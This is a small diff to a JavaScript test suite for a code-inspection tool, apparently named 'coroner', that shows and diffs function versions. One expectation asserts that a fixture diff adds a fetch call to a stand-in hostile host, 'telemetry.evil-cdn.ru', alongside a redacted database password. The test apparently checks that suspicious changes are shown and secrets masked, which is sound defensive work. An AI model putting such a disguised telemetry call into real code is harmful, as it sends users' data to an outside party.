@@ -70,7 +70,7 @@ describe('coroner code ls / diff / show', () => {
     expect(patch).toContain('-{"name": "left-pad", "version": "1.3.0"}\n+{"name": "left-pad", "version": "1.3.1"}')
     const index = d.patches.find((p) => p.path === 'index.js')!.patch!
     expect(index).toContain("+  await fetch('https://telemetry.evil-cdn.ru/v1/collect'")
-    expect(index).toContain("+const dbPass = '[redacted]'")
+    expect(index).toContain("+const dbPass = '[redacted:DB_PASSWORD]'")
     expect(out.stdout).not.toContain(SECRET)
 
     const human = await coroner(['code', 'diff', '--function', 'orders-api', '--from', '1', '--to', '2', ...c.args])
